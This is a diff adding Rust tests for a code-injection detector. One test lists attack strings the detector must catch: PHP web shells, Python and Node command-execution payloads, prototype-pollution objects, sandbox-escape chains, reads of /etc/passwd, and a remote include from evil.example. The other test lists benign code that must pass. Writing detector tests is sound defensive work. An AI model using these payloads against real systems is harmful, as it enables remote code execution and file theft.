@@ -1,0 +1,100 @@
+//! What code detection finds and what it leaves alone.
+
+use super::code;
+
+#[test]
+fn code_that_acts_is_found() {
+    let attacks = [
+        "__import__('os').system('id')",
+        "eval(compile('import os','x','exec'))",
+        "os.system('id')",
+        "'+__import__('os').popen('id').read()+'",
+        "<?php system($_GET['c']); ?>",
+        "<?php phpinfo();?>",
+        "<?=`id`?>",
+        "<? passthru('ls') ?>",
+        "phpinfo()",
+        "';phpinfo();//",
+        "${@print(md5(1))}",
+        "{${phpinfo()}}",
+        "$_GET['a']($_GET['b'])",
+        "(sy.(st).em)(whoami)",
+        "eval($_POST['x'])",
+        "system('id')",
+        "';system('id');'",
+        "assert($_GET['x'])",
+        "require('child_process').exec('id')",
+        "process.mainModule.require('child_process').execSync('id')",
+        "global.process.mainModule.constructor._load('child_process').exec('id')",
+        "this.constructor.constructor('return process')().exit()",
+        "{\"__proto__\":{\"isAdmin\":true}}",
+        "__proto__[isAdmin]",
+        "constructor.prototype.isAdmin",
+        "constructor[prototype][x]",
+        "{\"constructor\":{\"prototype\":{\"a\":1}}}",
+        "().__class__.__bases__[0].__subclasses__()",
+        "java.lang.Runtime.getRuntime().exec('id')",
+        "new java.lang.ProcessBuilder('id').start()",
+        "Kernel.exec('id')",
+        "IO.popen('id').read",
+        "`id`.execute()",
+        "'id'.execute().text",
+        "eval('1+1')",
+        "exec('import os; os.system(\"id\")')",
+        "open('/etc/passwd').read()",
+        "print(__import__('os').listdir('.'))",
+        "\";import os;os.system('id');#",
+        "1;phpinfo()",
+        "include('http://evil.example/x.txt')",
+        "file_get_contents('/etc/passwd')",
+        "$a='sys'.'tem';$a('id')",
+        "base64_decode('aWQ=')",
+        "eval(atob('YWxlcnQ='))",
+        "require('fs').readFileSync('/etc/passwd')",
+        "res.end(require('fs').readdirSync('.').toString())",
+        "import os; os.system('id')",
+        "sleep(5)",
+    ];
+    let missed: Vec<_> = attacks.into_iter().filter(|value| code(value.as_bytes()).is_none()).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn code_that_is_shown_and_code_that_computes_are_left_alone() {
+    let ordinary = [
+        "Is eval() evil? I read that you should not use it",
+        "def f(x):\n    return x + 1",
+        "print('hello')",
+        "console.log('x')",
+        "<?xml version=\"1.0\"?>",
+        "import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n",
+        "const fs = require('fs');\nconst path = require('path');\n",
+        "How do I use os.system('clear') in a loop on Windows?",
+        "let x = f(1);",
+        "The __proto__ property is deprecated, use Object.getPrototypeOf",
+        "class A:\n    def __init__(self):\n        self.x = 1",
+        "use std::process::Command;",
+        "for i in range(10): print(i)",
+        "SELECT count(*) FROM t",
+        "f(x) = x^2",
+        "open(file)",
+        "exec(query)",
+        "re.compile('a+')",
+        "Call me (maybe)",
+        "function add(a, b) { return a + b; }",
+        "array_push($list, $x);",
+        "my.func('a')",
+        "require('express')",
+        "Math.max(1, 2)",
+        "import React from 'react'",
+        "cursor.execute('SELECT 1')",
+        "assert(x == 1)",
+        "regex.exec('abc')",
+        "Do not forget: system (noun) is a set of things",
+        "sleep(ms)",
+        "print(\"sum\", 1 + 2)",
+        "$total = sum($items);",
+    ];
+    let alarms: Vec<_> = ordinary.into_iter().filter(|value| code(value.as_bytes()).is_some()).collect();
+    assert!(alarms.is_empty(), "{alarms:#?}");
+}
